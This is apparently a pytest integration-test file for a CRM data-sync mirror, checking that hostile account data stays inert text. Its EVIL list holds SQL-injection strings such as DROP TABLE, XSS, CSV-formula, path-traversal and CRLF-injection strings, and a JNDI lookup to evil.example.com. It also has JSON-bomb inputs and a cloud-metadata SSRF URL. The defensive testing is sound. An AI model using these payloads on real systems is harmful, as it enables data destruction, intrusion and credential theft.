"""An account that sends SQL, HTML and worse where text belongs: it is text, in every place."""

from __future__ import annotations

import json

import httpx
import pytest

from sync.rows.custom_fields import refresh_views
from tests.integration.resources.conftest import Open
from tests.integration.resources.fake import Fake, answer, page_of
from tests.integration.resources.test_custom_views import Account, account

__all__ = ["account"]

EVIL = (
    "'; DROP TABLE crm.orders; --",
    '"; DROP TABLE crm.orders; --',
    "$$; DROP TABLE crm.orders; $$",
    "x' OR '1'='1",
    "\\'; SELECT pg_sleep(60); --",
    "%s %(x)s :x ${x} {x} {{7*7}}",
    "=cmd|'/c calc'!A1",
    "</script><script>alert(1)</script>",
    "\x1b]0;owned\x07\x1b[2J",
    "a\r\nX-Evil: 1",
    "../../../../etc/passwd",
    "\u202egnp.exe",
    "${jndi:ldap://evil.example.com/x}",
    "\ufeff\u0085\u2028",
)
TABLES = (
    "SELECT count(*) FROM pg_class"
    " WHERE relnamespace IN ('crm'::regnamespace, 'sync'::regnamespace)"
)


def test_sql_in_names_and_codes_is_text(open_mirror: Open) -> None:
    """As keys of dictionaries, names of people, values: each is a row that says what was sent."""
    mirror = open_mirror("users", "statuses", orders=0, customers=0)
    fake = Fake(mirror)
    tables = mirror.value(TABLES)
    fake.serve("/api/v5/users", "users", [
        {"id": number, "firstName": evil, "lastName": evil, "email": evil}
        for number, evil in enumerate(EVIL, start=1)
    ])  # fmt: skip
    statuses = {evil: {"code": evil, "name": evil, "group": evil} for evil in EVIL}
    fake.handle("/api/v5/reference/statuses", lambda _: answer(statuses=statuses))
    for name in ("users", "statuses"):
        mirror.work(name, "walk")
    assert mirror.value(TABLES) == tables
    names = mirror.rows("SELECT id, first_name FROM crm.users WHERE store_id = :store ORDER BY id")
    assert [row.first_name for row in names] == list(EVIL)
    codes = mirror.rows("SELECT code, name FROM crm.statuses WHERE store_id = :store")
    assert {(row.code, row.name) for row in codes} == {(evil, evil) for evil in EVIL}


def test_sql_in_unknown_fields_and_broken_values_is_text(open_mirror: Open) -> None:
    """Names of fields nobody knows, and values that do not fit: they are noted, no more."""
    mirror = open_mirror("users", orders=0, customers=0)
    fake = Fake(mirror)
    tables = mirror.value(TABLES)
    fake.serve("/api/v5/users", "users", [
        {"id": number, "createdAt": evil, "active": {evil: evil}, evil: {evil: [evil]}}
        for number, evil in enumerate(EVIL, start=1)
    ])  # fmt: skip
    mirror.work("users", "walk")
    assert mirror.value(TABLES) == tables
    assert mirror.value("SELECT count(*) FROM crm.users WHERE store_id = :store") == len(EVIL)
    noted = mirror.rows("SELECT record, field, value, reason FROM sync.reject")
    assert len(noted) >= len(EVIL)
    assert mirror.value("SELECT count(*) FROM sync.unknown_field") >= len(EVIL)


def test_sql_in_custom_fields_codes_and_dictionaries_is_text(account: Account) -> None:
    """They become names of columns and conditions of views: quoted, whatever they are."""
    tables = account.run(TABLES)
    for evil in EVIL:
        account.field(evil, "dictionary", name=evil, dictionary=evil)
        account.run(
            "INSERT INTO crm.custom_dictionary_elements (store_id, custom_dictionary_code, code,"
            " name) VALUES (1, :c, :c, :n)",
            c=evil,
            n=f"name of {evil}",
        )
    account.order(1, {evil: evil for evil in EVIL})
    account.refresh()
    [row] = account.view()
    found = [value for value in row.values() if isinstance(value, str)]
    assert sorted(found) == sorted([*EVIL, *(f"name of {evil}" for evil in EVIL)])
    assert account.run(TABLES)[0][0] == tables[0][0] + 1


def test_sql_in_the_name_of_a_zone_is_no_zone(account: Account) -> None:
    """It becomes a constant of a view's expression; one that is no zone gives no time."""
    for store, zone in enumerate(EVIL, start=7):
        account.store(store, f"s{store}", zone=zone)
        account.field("at", "datetime", store=store)
        account.order(1, {"at": "2024-07-01 12:00:00"}, store=store)
    tables = account.run(TABLES)[0][0]
    views = []
    for store in range(7, 7 + len(EVIL)):
        with account.engine.begin() as connection:
            views += refresh_views(connection, store, f"s{store}")
    assert account.run(TABLES)[0][0] == tables + len(views)
    assert account.run("SELECT count(*) FROM crm.orders")[0][0] == len(EVIL)


DEEP = 50_000
BOMBS = {
    "nested lists": "[" * DEEP + "]" * DEEP,
    "nested objects": '{"a":' * DEEP + "1" + "}" * DEEP,
    "a number of a million digits": "9" * 1_000_000,
    "an exponent without end": "1e999999999",
    "a key of a million letters": '{"' + "k" * 1_000_000 + '": 1}',
    "NaN": "NaN",
    "a lone surrogate": '"\\ud800"',
    "NUL": '"\\u0000"',
    "a duplicate key": '{"id": 1, "id": 999}',
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_in_one_value_costs_its_record_at_most(open_mirror: Open, name: str) -> None:
    """The record beside it is a row, the next list is read, and no error is one of ours."""
    mirror = open_mirror("users", "statuses", orders=0, customers=0)
    fake = Fake(mirror)
    record = f'{{"id": 2, "firstName": "bomb", "extra": {BOMBS[name]}}}'
    pagination = json.dumps({"limit": 20, "totalCount": 2, "currentPage": 1, "totalPageCount": 1})
    body = (
        f'{{"success": true, "users": [{{"id": 1, "firstName": "Ann"}}, {record}],'
        f' "pagination": {pagination}}}'
    )
    fake.handle("/api/v5/users", lambda _: httpx.Response(200, content=body.encode()))
    mirror.work("users", "walk")
    lane = mirror.lane("users")
    rows = mirror.rows("SELECT id FROM crm.users WHERE store_id = :store ORDER BY 1")
    assert [row.id for row in rows] in ([1, 2], [1], [])
    if not rows:
        assert lane.error is not None, "an answer that cannot be read at all is said to be so"
        assert "Please report" not in lane.error
    mirror.work("statuses", "walk")
    assert mirror.value("SELECT count(*) FROM crm.statuses WHERE store_id = :store") > 0


def test_an_account_that_names_other_hosts_is_asked_at_its_own(open_mirror: Open) -> None:
    """Addresses in what it sends are text: of pictures, of files, of itself."""
    mirror = open_mirror("users", orders=0, customers=0)
    fake = Fake(mirror)
    inside = "http://169.254.169.254/latest/meta-data/"
    asked: set[str] = set()
    mirror.wire.before = lambda request: asked.add(request.url.host)
    fake.handle("/api/v5/users", lambda parameters: page_of("users", [
        {"id": 1, "firstName": inside, "photoUrl": inside, "technicalUrl": inside, "next": inside},
    ], parameters))  # fmt: skip
    mirror.work("users", "walk")
    assert len(asked) == 1
    assert "169.254.169.254" not in asked
